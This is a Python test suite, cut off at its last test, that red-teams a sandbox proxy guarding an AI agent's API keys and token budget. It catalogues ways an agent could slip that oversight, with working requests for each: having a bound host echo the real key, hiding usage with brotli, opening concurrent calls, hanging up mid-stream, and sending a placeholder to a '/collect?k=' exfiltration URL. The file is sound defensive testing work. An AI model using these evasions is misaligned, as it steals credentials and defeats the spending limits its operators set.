"""A fifth outside attack (the helper "breakwire", who built none of it): the
governed model traffic of issue 37, attacked from the agent's side.

The target: the agent holds a placeholder of each key; the proxy terminates TLS
for the hosts a key is bound to, swaps the real value in there only, records a
``model`` call per request with the tokens read from its response, and stops
the attempt's model requests once ``[limits] tokens`` is passed.

Real sockets throughout, as tests/sandbox/test_egress_terminated.py does: the
real proxy (`governor.sandbox.net.proxy`) judged by the real gate writing a
real audit log; the bound host is a loopback HTTPS stand-in with a certificate
of a test CA the proxy is told to trust upstream; the client is the agent's
side, speaking TLS to the proxy and trusting the attempt's CA only, as any
client in the sandbox does. The budget is the attempt's real one
(`governor.attempt.budget.Budget` fed by `governor.gate.model_calls.ModelCalls`,
wired as `governor.attempt.lifecycle` wires them).

Each hole is a test marked ``xfail(strict=True)``: it fails today because the
attack works, and the fixer removes the mark. Its allowed neighbour, and the
attacks that held, are ordinary tests.

The holes, by class:

- the real value handed back: the real key is put wherever the placeholder
  is (any header, the path, the query), and the response passes unread: a
  bound host that says what it was sent (a 404 naming the unknown path, an
  error quoting a header, an echo endpoint) gives the agent the real key;
- usage read in the codings the reader knows, while the agent chooses the
  coding: ``Accept-Encoding: br`` (or ``zstd``) is forwarded, the API answers
  in it, the reader cannot read it, the call counts no tokens, and
  ``[limits] tokens`` is never passed;
- the budget checked against calls that ended only: model calls opened at
  once each pass the check before any of them ends, so the tokens seen on the
  wire run past ``[limits] tokens`` as many times over as the agent opens calls;
- a key bound to the union of its preset's hosts: the real ``opencode``
  preset's Anthropic key is put into a request to its OpenAI gateway (and
  ``opencode.ai``; Copilot's GitHub token into a request to its BYOK provider);
- a record written only for a response passed on whole: a client that hangs
  up mid-stream (a cancelled turn, or an agent that wants its calls
  uncounted) leaves no ``model`` record and no tokens, though the API billed them;
- an exfiltration try counted as a failure: a plain-HTTP request is judged by
  its host before its placeholders are read, so a try sent to an allowed name
  that does not resolve is recorded ``failed`` (dns), not as the refused
  exfiltration try it is, and ``--fail-on refused`` passes;
- the key sent in clear: the placeholder is swapped by host and port whatever
  the transport, so a plain-HTTP request through the proxy to the HTTPS port
  of a bound host carries the real key unencrypted;
- tokens spent where no response says so: every path of a model host is
  carried, the budget counts only responses whose shape it knows, so a
  Message Batch (accepted without usage, its results JSON Lines) spends
  thousands of calls' tokens unseen;
- the key's whole authority on a bound host: a credential is bound to hosts,
  not to its agent's calls there, so the GitHub token Copilot holds for its
  token exchange is put into ``POST /user/keys`` on ``api.github.com``;
- a peer's malformed message escaping its connection: a chunk size that is
  not hexadecimal in the agent's request to a plain-HTTP gateway raises out of
  the proxy and ends it, every connection of the attempt with it.

Closed the same day (marks removed): the real value handed back (a real value
goes only into a key header, `credentials.KEY_HEADERS`, as its whole value or
after one scheme word; the placeholder anywhere else is refused as an
exfiltration try; residual: a bound host that quotes a valid key header back,
since responses are not rewritten), and a malformed message (it ends its own
connection, answered). Closed the next session (marks removed): a key bound
to its own hosts (a preset's ``keys``), and to the calls its agent makes with
it where the preset names them; a TLS binding's value inside TLS only; a
request's placeholders read before its host is judged; with a tokens or cost
limit, the Accept-Encoding of a terminated request set to the codings read,
calls one at a time, every request sent recorded however it ended, only
calls whose usage is read carried, and a call whose usage could not be read
failing the limit closed. The wiring below follows the lifecycle's
(``ModelCalls(audit, budget.observed, budget.unread)``, the interception
``metered`` by the budget).
"""

from __future__ import annotations

import contextlib
import dataclasses
import json
import secrets
import socket
import ssl
import sys
from collections.abc import AsyncIterator, Awaitable, Callable
from dataclasses import dataclass, field
from pathlib import Path

import h11
import pytest
import trio

from governor.agents.presets import presets
from governor.attempt.budget import Budget
from governor.audit.log import AuditLog
from governor.confine.egress import judge
from governor.confine.model_api import held_credentials
from governor.gate.approver import Unattended
from governor.gate.gatekeeper import Gate
from governor.gate.model_calls import ModelCalls
from governor.policies.capability import Capability
from governor.policies.limits import Limits
from governor.policies.network import NetworkRules, parse_pattern
from governor.policies.policy import Policy
from governor.sandbox.net.credentials import Binding, Credential, Credentials, placeholder_for
from governor.sandbox.net.proxy import open_egress
from governor.sandbox.net.terminate import Interception, ModelCall
from governor.sandbox.net.tls import AttemptCA, upstream_context

KEY = "sk-ant-api03-" + "R3alS3cretKeyValue" * 4
OPENAI_KEY = "sk-proj-" + "0penAIRealKey" * 5
GITHUB_TOKEN = "ghp_" + "G1tHubRealT0ken" * 3

Reply = tuple[int, list[tuple[bytes, bytes]], bytes | list[bytes]]
"""A status, headers and a body: whole, or pieces streamed chunked a moment apart."""
Handler = Callable[[h11.Request, bytes], Awaitable[Reply]]


@dataclass
class Origin:
    """The bound host: a loopback HTTPS stand-in answering with ``handler``."""

    context: ssl.SSLContext | None
    """None: plain HTTP (a gateway)."""
    handler: Handler
    port: int = 0
    requests: list[h11.Request] = field(default_factory=list)
    bodies: list[bytes] = field(default_factory=list)
    answered: int = 0
    plaintext: list[bytes] = field(default_factory=list)
    """What came to the HTTPS port in clear, not as a TLS handshake."""
    """Responses sent whole."""


class _Read(trio.abc.Stream):
    """A stream whose first bytes were already read."""

    def __init__(self, stream: trio.SocketStream, first: bytes | bytearray) -> None:
        self.stream, self.first = stream, bytes(first)

    async def send_all(self, data: bytes | bytearray | memoryview) -> None:
        await self.stream.send_all(data)

    async def wait_send_all_might_not_block(self) -> None:
        await self.stream.wait_send_all_might_not_block()

    async def receive_some(self, max_bytes: int | None = None) -> bytes | bytearray:
        if self.first:
            data, self.first = self.first, b""
            return data
        return await self.stream.receive_some(max_bytes)

    async def aclose(self) -> None:
        await self.stream.aclose()


async def serve_origin(origin: Origin, task_status: trio.TaskStatus[None]) -> None:
    listener = (await trio.open_tcp_listeners(0, host="127.0.0.1"))[0]
    origin.port = listener.socket.getsockname()[1]
    task_status.started()

    async def one(plain: trio.SocketStream) -> None:
        stream: trio.abc.Stream = plain
        if origin.context is not None:
            first = await plain.receive_some(65536)
            if first[:1] != b"\x16":  # not a TLS handshake: what crossed the network in clear
                origin.plaintext.append(bytes(first))
                await plain.aclose()
                return
            stream = trio.SSLStream(_Read(plain, first), origin.context, server_side=True)
        conn = h11.Connection(h11.SERVER)
        with contextlib.suppress(trio.BrokenResourceError, ssl.SSLError, OSError, h11.ProtocolError):
            while True:
                event = conn.next_event()
                if event is h11.NEED_DATA:
                    conn.receive_data(await stream.receive_some(65536))
                    continue
                if not isinstance(event, h11.Request):
                    return
                body = b""
                while not isinstance(part := conn.next_event(), h11.EndOfMessage):
                    if part is h11.NEED_DATA:
                        conn.receive_data(await stream.receive_some(65536))
                    elif isinstance(part, h11.Data):
                        body += part.data
                origin.requests.append(event)
                origin.bodies.append(body)
                status, headers, content = await origin.handler(event, body)
                if isinstance(content, bytes):
                    headers = [*headers, (b"content-length", b"%d" % len(content))]
                await stream.send_all(conn.send(h11.Response(status_code=status, headers=headers)))
                for piece in [content] if isinstance(content, bytes) else content:
                    await stream.send_all(conn.send(h11.Data(data=piece)))
                    if not isinstance(content, bytes):
                        await trio.sleep(0.02)  # a model generating
                await stream.send_all(conn.send(h11.EndOfMessage()))
                origin.answered += 1
                conn.start_next_cycle()

    async with listener, trio.open_nursery() as nursery:
        while True:
            nursery.start_soon(one, await listener.accept())


@dataclass
class Wire:
    """The proxy as the agent's sandbox meets it, in front of the bound hosts."""

    test_ca: AttemptCA
    origins: list[Origin]
    port: int
    ca: AttemptCA
    credentials: Credentials
    calls: list[ModelCall]
    budget: Budget

    @property
    def origin(self) -> Origin:
        return self.origins[0]

    @property
    def placeholder(self) -> str:
        return self.credentials.held[0].placeholder


Held = Callable[[list[Origin]], Credentials]


def anthropic_key(origins: list[Origin]) -> Credentials:
    """``ANTHROPIC_API_KEY`` bound to the first stand-in, as a preset binds its key."""
    tls = origins[0].context is not None
    bound = (Binding("127.0.0.1", origins[0].port, tls=tls),)
    return Credentials([Credential("ANTHROPIC_API_KEY", KEY, placeholder_for(KEY), bound)])


@contextlib.asynccontextmanager
async def wire(
    tmp_path: Path,
    *handlers: Handler,
    tokens: int | None = None,
    plain: bool = False,
    held: Held = anthropic_key,
    allow: tuple[str, ...] = (),
) -> AsyncIterator[Wire]:
    """The real proxy, gate, audit log, model-call recorder and budget in front
    of a stand-in per handler (HTTPS with its own test CA trusted upstream, or
    ``plain`` HTTP: a gateway), the credentials ``held`` bound to them."""
    test_ca = AttemptCA.make("the stand-in's own test CA")
    ca_file = tmp_path / "test-ca.pem"
    ca_file.write_bytes(test_ca.cert_pem)
    origins = [Origin(None if plain else test_ca.server_context("127.0.0.1"), h) for h in handlers]
    async with trio.open_nursery() as nursery:
        for origin in origins:
            await nursery.start(serve_origin, origin)
        hosts = (*(f"127.0.0.1:{o.port}" for o in origins), *allow)
        patterns = tuple(parse_pattern(h) for h in hosts)
        rules = NetworkRules(enabled=True, allow=patterns, agent=patterns)
        ws = tmp_path / "ws"
        ws.mkdir()
        policy = Policy(capability=Capability.EDIT_WORKSPACE, network_rules=rules).bind(str(ws))
        audit = AuditLog(tmp_path / "audit.jsonl", "outside-attack5")
        ca = AttemptCA.make("test attempt")
        credentials = held(origins)
        budget = Budget(Limits(tokens=tokens), "agent")
        model_calls = ModelCalls(audit, budget.observed, budget.unread)
        calls: list[ModelCall] = []

        async def record(call: ModelCall) -> None:
            calls.append(call)
            await model_calls.record(call)

        interception = Interception(
            credentials, ca, upstream_context(str(ca_file)), record, budget.refusal, budget.metered
        )
        gate = Gate(policy, audit, Unattended())
        async with open_egress(judge(gate), None, interception) as proxy:
            listener = socket.create_server(("127.0.0.1", 0))
            proxy.serve(listener, "agent")
            yield Wire(test_ca, origins, listener.getsockname()[1], ca, credentials, calls, budget)
        audit.close()
        nursery.cancel_scope.cancel()


async def through(
    w: Wire, to: Origin | None = None, trusted: bytes | None = None
) -> trio.SSLStream[trio.SocketStream]:
    """A CONNECT to a bound host through the proxy, TLS trusting the attempt's
    CA (or ``trusted``)."""
    stream = await trio.open_tcp_stream("127.0.0.1", w.port)
    target = f"127.0.0.1:{(to or w.origin).port}"
    await stream.send_all(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
    answer = b""
    while b"\r\n\r\n" not in answer:
        answer += await stream.receive_some(4096)
    assert answer.startswith(b"HTTP/1.1 200"), answer
    context = ssl.create_default_context(cadata=(trusted or w.ca.cert_pem).decode())
    tls = trio.SSLStream(stream, context, server_hostname="127.0.0.1")
    await tls.do_handshake()
    return tls


async def ask(
    w: Wire,
    method: str,
    target: str,
    headers: list[tuple[str, str]],
    body: bytes = b"",
    to: Origin | None = None,
) -> tuple[int, bytes, bytes]:
    """One request on its own connection (to the first stand-in, or ``to``):
    the status, the raw head, the body the agent reads."""
    tls = await through(w, to)
    client = h11.Connection(h11.CLIENT)
    sent = [("Host", "127.0.0.1"), *headers, ("content-length", str(len(body)))]
    await tls.send_all(client.send(h11.Request(method=method, target=target, headers=sent)))
    await tls.send_all(client.send(h11.Data(data=body)) + client.send(h11.EndOfMessage()))
    status, head, got = 0, b"", b""
    while True:
        event = client.next_event()
        if event is h11.NEED_DATA:
            client.receive_data(await tls.receive_some(65536))
        elif isinstance(event, h11.Response):
            status = event.status_code
            head = b"\n".join(k + b": " + v for k, v in event.headers.raw_items())
        elif isinstance(event, h11.Data):
            got += event.data
        elif isinstance(event, h11.EndOfMessage | h11.ConnectionClosed):
            with contextlib.suppress(trio.BrokenResourceError, ssl.SSLError, OSError):
                await tls.aclose()
            return status, head, got


def message(tokens_in: int, tokens_out: int) -> bytes:
    """An Anthropic Messages response (not streamed) reporting its usage."""
    return json.dumps({
        "id": "msg_standin", "type": "message", "role": "assistant", "model": "claude-standin-1",
        "content": [{"type": "text", "text": "ok"}], "stop_reason": "end_turn",
        "usage": {"input_tokens": tokens_in, "output_tokens": tokens_out},
    }).encode()  # fmt: skip


# -- the real value handed back -------------------------------------------------------


async def api_like(request: h11.Request, body: bytes) -> Reply:
    """What real APIs do: the authenticated route answers; an unknown route is a
    404 naming the path asked for; a request without a valid key is a 401
    quoting the header that was wrong (as many gateways and proxies in front
    of model APIs do)."""
    headers = dict(request.headers.raw_items())
    json_type = [(b"content-type", b"application/json")]
    if headers.get(b"x-api-key") != KEY.encode():
        wrong = {k.decode(): v.decode() for k, v in headers.items() if k.startswith(b"x-")}
        return 401, json_type, json.dumps({"error": "invalid x-api-key", "sent": wrong}).encode()
    if request.target.split(b"?")[0] != b"/v1/messages":
        error = {"type": "not_found_error", "message": f"Not found: {request.target.decode()}"}
        return 404, json_type, json.dumps({"type": "error", "error": error}).encode()
    return 200, json_type, message(10, 5)


@pytest.mark.parametrize("where", ["path", "query", "another header", "the key header, echoed"])
async def test_the_real_key_never_comes_back_to_the_agent_in_a_response_from_its_bound_host(
    tmp_path: Path, where: str
) -> None:
    async with wire(tmp_path, api_like) as w:
        p = w.placeholder
        if where == "path":  # a 404 naming the path
            answers = [await ask(w, "GET", f"/v1/{p}", [("x-api-key", p)])]
        elif where == "query":
            answers = [await ask(w, "GET", f"/v1/models/x?after_id={p}", [("x-api-key", p)])]
        elif where == "another header":  # a 401 quoting the x- headers
            answers = [await ask(w, "GET", "/v1/messages", [("x-api-key", "nope"), ("x-note", p)])]
        else:  # the key's own header, made wrong by a letter more: a 401 quotes it
            answers = [await ask(w, "GET", "/v1/messages", [("x-api-key", p + "x")])]
        # closed: the real value goes only where a key is sent (the whole header, or one
        # scheme word before it); the placeholder anywhere else is refused, never sent on
        seen = b"".join(r.target + b"".join(v for _, v in r.headers.raw_items()) for r in w.origin.requests)
        assert KEY.encode() not in seen, f"{where}: the real key was put outside its place"
        for status, head, body in answers:
            assert status == 403 and b"outside a key's place" in body, (status, body)
            assert KEY.encode() not in head + body, f"{where}: the real key came back in {body[:200]!r}"


async def test_the_bound_host_gets_the_real_key_in_its_key_header_and_the_agent_gets_its_answer(
    tmp_path: Path,
) -> None:
    """The allowed neighbour: the placeholder in ``x-api-key`` on the bound
    route becomes the real key there, the call is answered and recorded, and
    nothing of the key comes back."""
    async with wire(tmp_path, api_like) as w:
        status, head, body = await ask(w, "POST", "/v1/messages", [("x-api-key", w.placeholder)], b"{}")
        assert status == 200, body
        assert json.loads(body)["usage"] == {"input_tokens": 10, "output_tokens": 5}
        assert dict(w.origin.requests[0].headers.raw_items())[b"x-api-key"] == KEY.encode()
        assert KEY.encode() not in head + body
        with trio.fail_after(10):
            while not w.calls:
                await trio.sleep(0.01)
        assert w.calls[0].usage.tokens == {"input": 10, "output": 5}


# -- usage in a coding the reader cannot read -----------------------------------------


def brotli_stored(data: bytes) -> bytes:
    """``data`` as a valid Brotli stream (RFC 7932) of uncompressed meta-blocks:
    what a server sends when the client accepts ``br`` (node's zlib reads it)."""
    out = bytearray()
    bits, count = 0, 0

    def put(value: int, width: int) -> None:
        nonlocal bits, count
        bits |= value << count
        count += width

    def flush() -> None:
        nonlocal bits, count
        while count > 0:
            out.append(bits & 0xFF)
            bits >>= 8
            count -= 8
        bits, count = 0, 0

    put(0, 1)  # WBITS 16
    for at in range(0, len(data), 65536):
        block = data[at : at + 65536]
        put(0, 1)  # ISLAST no
        put(0, 2)  # MNIBBLES: 4
        put(len(block) - 1, 16)  # MLEN - 1
        put(1, 1)  # ISUNCOMPRESSED
        flush()
        out += block
    put(1, 1)  # ISLAST
    put(1, 1)  # ISLASTEMPTY
    flush()
    return bytes(out)


def speaks_codings(tokens_in: int, tokens_out: int) -> Handler:
    """An API in front of a CDN: the answer in ``br`` when the client accepts
    it, else ``identity``."""

    async def handler(request: h11.Request, body: bytes) -> Reply:
        accepted = b",".join(v for k, v in request.headers.raw_items() if k.lower() == b"accept-encoding")
        content = message(tokens_in, tokens_out)
        headers = [(b"content-type", b"application/json")]
        if b"br" in [a.split(b";")[0].strip() for a in accepted.split(b",")]:
            return 200, [*headers, (b"content-encoding", b"br")], brotli_stored(content)
        return 200, headers, content

    return handler


async def test_a_model_call_answered_in_a_coding_the_agent_asked_for_still_counts_its_tokens_against_the_limit(
    tmp_path: Path,
) -> None:
    async with wire(tmp_path, speaks_codings(600, 400), tokens=500) as w:
        for _ in range(3):
            status, head, _ = await ask(
                w, "POST", "/v1/messages", [("x-api-key", w.placeholder), ("accept-encoding", "br")], b"{}"
            )
            if status != 200:
                break
        # the first call's 1,000 tokens pass the limit of 500: the next is refused
        assert status == 403, (status, head)
        assert len(w.origin.requests) == 1
        assert w.calls[0].usage.tokens == {"input": 600, "output": 400}


async def test_a_model_call_in_a_coding_the_reader_knows_counts_and_the_next_call_past_the_limit_is_refused(
    tmp_path: Path,
) -> None:
    """The allowed neighbour: the same calls with ``Accept-Encoding: gzip,
    identity`` are read, the first passes the limit, the second is refused."""
    async with wire(tmp_path, speaks_codings(600, 400), tokens=500) as w:
        first = await ask(w, "POST", "/v1/messages", [("x-api-key", w.placeholder), ("accept-encoding", "gzip")], b"{}")
        assert first[0] == 200
        second = await ask(w, "POST", "/v1/messages", [("x-api-key", w.placeholder)], b"{}")
        assert second[0] == 403, second
        assert b"tokens limit 500" in second[2]
        assert len(w.origin.requests) == 1
        assert w.budget.over is not None


def insists_on_brotli(tokens_in: int, tokens_out: int) -> Handler:
    """An API (or a CDN in front of it) that answers in ``br`` whatever the
    request accepts."""

    async def handler(request: h11.Request, body: bytes) -> Reply:
        headers = [(b"content-type", b"application/json"), (b"content-encoding", b"br")]
        return 200, headers, brotli_stored(message(tokens_in, tokens_out))

    return handler


async def test_a_model_call_whose_usage_cannot_be_read_fails_the_tokens_limit_closed(tmp_path: Path) -> None:
    """The class behind the coding hole: a call that spent tokens in a shape
    or coding no one reads counts as past the limit, never as free; the
    request went out accepting only the codings the reader knows."""
    async with wire(tmp_path, insists_on_brotli(10, 5), tokens=100_000) as w:
        key = [("x-api-key", w.placeholder), ("accept-encoding", "br, zstd")]
        first = await ask(w, "POST", "/v1/messages", key, b"{}")
        assert first[0] == 200
        accepted = dict(w.origin.requests[0].headers.raw_items())[b"accept-encoding"]
        assert accepted == b"gzip, deflate"
        second = await ask(w, "POST", "/v1/messages", key, b"{}")
        assert second[0] == 403 and b"could not be read on the wire" in second[2], second
        assert len(w.origin.requests) == 1
        log = [json.loads(line) for line in (tmp_path / "audit.jsonl").read_text().splitlines()]
        assert [r.get("usage_unread") for r in log if r.get("kind") == "model"] == [True]


async def test_a_model_call_whose_usage_cannot_be_read_is_carried_when_no_limit_is_set(tmp_path: Path) -> None:
    """Its neighbour: without a tokens limit nothing fails closed."""
    async with wire(tmp_path, insists_on_brotli(10, 5)) as w:
        key = [("x-api-key", w.placeholder)]
        for _ in range(2):
            assert (await ask(w, "POST", "/v1/messages", key, b"{}"))[0] == 200
        assert w.budget.over is None


def test_the_brotli_stand_in_sends_what_a_real_client_decodes() -> None:
    """The coding hole's stand-in is honest: node's own zlib decodes its ``br``."""
    import shutil
    import subprocess

    node = shutil.which("node")
    if node is None:
        pytest.skip("no node to decode brotli with")
    data = message(600, 400) * 3000  # more than one meta-block
    script = "process.stdout.write(require('zlib').brotliDecompressSync(require('fs').readFileSync(0)))"
    done = subprocess.run([node, "-e", script], input=brotli_stored(data), capture_output=True, check=True)
    assert done.stdout == data


# -- the budget checked against ended calls only --------------------------------------


def held_until(count: int, tokens_in: int, tokens_out: int) -> tuple[Handler, trio.Event]:
    """An API whose answers wait until ``count`` requests are in (or a few
    seconds: a proxy that lets one call at a time through still gets its
    answer): a model thinking, as every model does, while more calls come."""
    arrived = trio.Event()
    seen = [0]

    async def handler(request: h11.Request, body: bytes) -> Reply:
        seen[0] += 1
        if seen[0] >= count:
            arrived.set()
        with trio.move_on_after(3):
            await arrived.wait()
        return 200, [(b"content-type", b"application/json")], message(tokens_in, tokens_out)

    return handler, arrived


async def test_model_calls_opened_at_once_cannot_run_past_the_tokens_limit_more_than_one_call_over(
    tmp_path: Path,
) -> None:
    handler, _ = held_until(6, 60, 40)
    async with wire(tmp_path, handler, tokens=150) as w:
        statuses: list[int] = []

        async def one() -> None:
            statuses.append((await ask(w, "POST", "/v1/messages", [("x-api-key", w.placeholder)], b"{}"))[0])

        async with trio.open_nursery() as nursery:
            for _ in range(6):
                nursery.start_soon(one)
        # 100 tokens a call, a limit of 150: the call that passes it is the
        # second; no more than two may have reached the API
        assert len(w.origin.requests) <= 2, f"{len(w.origin.requests)} calls reached the API"
        assert statuses.count(200) <= 2, statuses


async def test_model_calls_one_after_another_stop_at_the_call_that_passes_the_tokens_limit(
    tmp_path: Path,
) -> None:
    """The allowed neighbour: calls made one at a time are counted as each
    ends, and the first after the limit is refused, recorded as a refusal."""
    handler, _ = held_until(1, 60, 40)
    async with wire(tmp_path, handler, tokens=150) as w:
        statuses = [
            (await ask(w, "POST", "/v1/messages", [("x-api-key", w.placeholder)], b"{}"))[0]
            for _ in range(4)
        ]
        assert statuses == [200, 200, 403, 403]
        assert len(w.origin.requests) == 2
        assert w.budget.wire_tokens == 200
        log = [json.loads(line) for line in (tmp_path / "audit.jsonl").read_text().splitlines()]
        refused = [r for r in log if r.get("kind") == "network" and r.get("verdict") == "deny"]
        assert refused and "tokens limit 150" in str(refused[0]["reason"])


# -- a key sent to another key's host ---------------------------------------------------


async def takes_anything(request: h11.Request, body: bytes) -> Reply:
    return 200, [(b"content-type", b"application/json")], message(1, 1)


def opencode_with_two_gateways(origins: list[Origin]) -> Credentials:
    """What the governor holds for the real ``opencode`` preset (presets.toml)
    when the operator gives it an Anthropic key with an Anthropic gateway and
    an OpenAI key with an OpenAI-compatible gateway, another company's."""
    env = {
        "ANTHROPIC_API_KEY": KEY,
        "ANTHROPIC_BASE_URL": f"https://127.0.0.1:{origins[0].port}",
        "OPENAI_API_KEY": OPENAI_KEY,
        "OPENAI_BASE_URL": f"https://127.0.0.1:{origins[1].port}/v1",
    }
    return held_credentials(presets()["opencode"], env, sandboxed=True)


def placeholder_of(w: Wire, name: str) -> str:
    (found,) = [c.placeholder for c in w.credentials.held if c.name == name]
    return found


async def test_a_key_is_never_put_into_a_request_to_the_host_of_another_key(tmp_path: Path) -> None:
    async with wire(tmp_path, takes_anything, takes_anything, held=opencode_with_two_gateways) as w:
        openai = w.origins[1]
        status, _, body = await ask(
            w, "POST", "/v1/chat/completions",
            [("authorization", f"Bearer {placeholder_of(w, 'ANTHROPIC_API_KEY')}")], b"{}", to=openai,
        )  # fmt: skip
        sent = b"".join(v for r in openai.requests for _, v in r.headers.raw_items())
        assert KEY.encode() not in sent, "the Anthropic key reached the OpenAI gateway"
        assert status == 403, (status, body)
        assert b"exfiltration" in body


async def test_each_key_reaches_its_own_gateway_in_place_of_its_placeholder(tmp_path: Path) -> None:
    """The allowed neighbour: the real opencode preset's two keys, each sent to
    its own gateway, arrive there real."""
    async with wire(tmp_path, takes_anything, takes_anything, held=opencode_with_two_gateways) as w:
        anthropic, openai = w.origins
        assert {c.name for c in w.credentials.held} == {"ANTHROPIC_API_KEY", "OPENAI_API_KEY"}
        first = await ask(w, "POST", "/v1/messages", [("x-api-key", placeholder_of(w, "ANTHROPIC_API_KEY"))], b"{}", to=anthropic)
        second = await ask(
            w, "POST", "/v1/chat/completions",
            [("authorization", f"Bearer {placeholder_of(w, 'OPENAI_API_KEY')}")], b"{}", to=openai,
        )  # fmt: skip
        assert (first[0], second[0]) == (200, 200)
        assert dict(anthropic.requests[0].headers.raw_items())[b"x-api-key"] == KEY.encode()
        assert dict(openai.requests[0].headers.raw_items())[b"authorization"] == b"Bearer " + OPENAI_KEY.encode()


# -- a malformed body ends more than its own connection -------------------------------


async def plain_ask(w: Wire, raw: bytes) -> bytes:
    """Raw bytes to the proxy port (absolute form, as a client sends plain
    HTTP through a proxy); what comes back until the proxy closes."""
    stream = await trio.open_tcp_stream("127.0.0.1", w.port)
    await stream.send_all(raw)
    answer = b""
    with contextlib.suppress(trio.BrokenResourceError, OSError):
        while data := await stream.receive_some(65536):
            answer += data
    await stream.aclose()
    return answer


def chunked_post(w: Wire, body: bytes) -> bytes:
    at = f"127.0.0.1:{w.origin.port}"
    return (
        f"POST http://{at}/v1/messages HTTP/1.1\r\nHost: {at}\r\nx-api-key: {w.placeholder}\r\n"
        "Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
    ).encode() + body


async def test_a_malformed_chunked_body_to_a_gateway_ends_its_own_connection_and_the_proxy_goes_on(
    tmp_path: Path,
) -> None:
    async with wire(tmp_path, takes_anything, plain=True) as w:
        bad = await plain_ask(w, chunked_post(w, b"zz\r\n\r\n"))
        assert bad.startswith(b"HTTP/1.1 400") or bad == b"", bad
        good = await plain_ask(w, chunked_post(w, b"2\r\n{}\r\n0\r\n\r\n"))
        assert good.startswith(b"HTTP/1.1 200"), good


async def test_a_well_formed_chunked_body_to_a_gateway_is_answered_and_recorded(tmp_path: Path) -> None:
    """The allowed neighbour: the same request, its chunks well formed."""
    async with wire(tmp_path, takes_anything, plain=True) as w:
        for _ in range(2):
            good = await plain_ask(w, chunked_post(w, b"2\r\n{}\r\n0\r\n\r\n"))
            assert good.startswith(b"HTTP/1.1 200"), good
        assert w.origin.bodies == [b"{}", b"{}"]
        assert dict(w.origin.requests[0].headers.raw_items())[b"x-api-key"] == KEY.encode()


# -- a call whose client left --------------------------------------------------------


def event_stream(tokens_in: int, tokens_out: int, deltas: int = 20) -> list[bytes]:
    """An Anthropic Messages event stream, event by event: the input tokens in
    its first event, the output tokens in its last."""
    usage = {"input_tokens": tokens_in, "output_tokens": 1}
    events = [{"type": "message_start", "message": {"model": "claude-standin-1", "usage": usage}}]
    events += [{"type": "content_block_delta", "delta": {"text": "word "}}] * deltas
    events += [{"type": "message_delta", "delta": {"stop_reason": "end_turn"}, "usage": {"output_tokens": tokens_out}}]
    return [f"event: {e['type']}\ndata: {json.dumps(e)}\n\n".encode() for e in events]


async def streams(request: h11.Request, body: bytes) -> Reply:
    return 200, [(b"content-type", b"text/event-stream")], event_stream(600, 400)


async def stream_call(w: Wire, *, leave: bool) -> bytes:
    """A streamed model call; ``leave``: the client reads the first event and
    hangs up (a cancelled turn, an agent's Esc, or one that wants its calls
    uncounted)."""
    tls = await through(w)
    client = h11.Connection(h11.CLIENT)
    headers = [("Host", "127.0.0.1"), ("x-api-key", w.placeholder), ("content-length", "2")]
    await tls.send_all(client.send(h11.Request(method="POST", target="/v1/messages", headers=headers)))
    await tls.send_all(client.send(h11.Data(data=b"{}")) + client.send(h11.EndOfMessage()))
    got = b""
    while True:
        event = client.next_event()
        if event is h11.NEED_DATA:
            client.receive_data(await tls.receive_some(65536))
        elif isinstance(event, h11.Data):
            got += event.data
            if leave and b"message_start" in got:
                tls.transport_stream.socket.close()  # gone, mid-stream
                return got
        elif isinstance(event, h11.EndOfMessage | h11.ConnectionClosed):
            await tls.aclose()
            return got


async def recorded(w: Wire, count: int) -> None:
    """Wait (a few seconds at most) for ``count`` calls to be recorded."""
    with trio.move_on_after(5):
        while len(w.calls) < count:
            await trio.sleep(0.01)


async def test_a_model_call_whose_client_hung_up_midstream_is_still_recorded_and_counted(
    tmp_path: Path,
) -> None:
    async with wire(tmp_path, streams, tokens=500) as w:
        got = await stream_call(w, leave=True)
        assert b"message_start" in got
        await recorded(w, 1)
        assert len(w.calls) == 1, "the call the API answered left no record"
        assert w.calls[0].usage.tokens.get("input") == 600
        # its 600 input tokens passed the limit: the next call is refused
        status, _, _ = await ask(w, "POST", "/v1/messages", [("x-api-key", w.placeholder)], b"{}")
        assert status == 403


async def test_a_streamed_model_call_read_to_its_end_is_recorded_with_its_tokens(tmp_path: Path) -> None:
    """The allowed neighbour: the same stream read whole is one record with
    its input and output tokens, and the call after it is refused."""
    async with wire(tmp_path, streams, tokens=500) as w:
        got = await stream_call(w, leave=False)
        assert got == b"".join(event_stream(600, 400))
        await recorded(w, 1)
        assert [c.usage.tokens for c in w.calls] == [{"input": 600, "output": 400}]
        status, _, _ = await ask(w, "POST", "/v1/messages", [("x-api-key", w.placeholder)], b"{}")
        assert status == 403


async def test_a_call_whose_client_hung_up_before_any_usage_fails_the_tokens_limit_closed(
    tmp_path: Path,
) -> None:
    """A client gone before the first event: the call is still recorded
    (the API took it), with no tokens read, and the limit fails closed."""

    async def slow(request: h11.Request, body: bytes) -> Reply:
        pings = [b": ping\n\n"] * 100  # a model thinking: the client leaves meanwhile
        return 200, [(b"content-type", b"text/event-stream")], [*pings, *event_stream(600, 400)]

    async with wire(tmp_path, slow, tokens=100_000) as w:
        tls = await through(w)
        client = h11.Connection(h11.CLIENT)
        headers = [("Host", "127.0.0.1"), ("x-api-key", w.placeholder), ("content-length", "2")]
        await tls.send_all(client.send(h11.Request(method="POST", target="/v1/messages", headers=headers)))
        await tls.send_all(client.send(h11.Data(data=b"{}")) + client.send(h11.EndOfMessage()))
        while not isinstance(client.next_event(), h11.Response):
            client.receive_data(await tls.receive_some(65536))
        tls.transport_stream.socket.close()  # gone before any usage came
        await recorded(w, 1)
        assert len(w.calls) == 1 and w.calls[0].status == 200 and w.calls[0].usage.tokens == {}
        with trio.fail_after(10):
            while w.budget.over is None:
                await trio.sleep(0.01)
        status, _, _ = await ask(w, "POST", "/v1/messages", [("x-api-key", w.placeholder)], b"{}")
        assert status == 403


# -- an exfiltration try counted as a failure -------------------------------------------


def network_records(tmp_path: Path, host: str) -> list[dict[str, object]]:
    lines = (tmp_path / "audit.jsonl").read_text().splitlines()
    return [
        r for r in map(json.loads, lines)
        if r.get("kind") == "network" and r.get("subject", {}).get("host") == host
    ]  # fmt: skip


def exfiltration(host: str, placeholder: str) -> bytes:
    return (
        f"GET http://{host}/collect?k={placeholder} HTTP/1.1\r\nHost: {host}\r\n"
        "Connection: close\r\n\r\n"
    ).encode()


async def test_a_placeholder_sent_to_an_allowed_name_that_does_not_resolve_is_recorded_as_a_refused_exfiltration_try(
    tmp_path: Path,
) -> None:
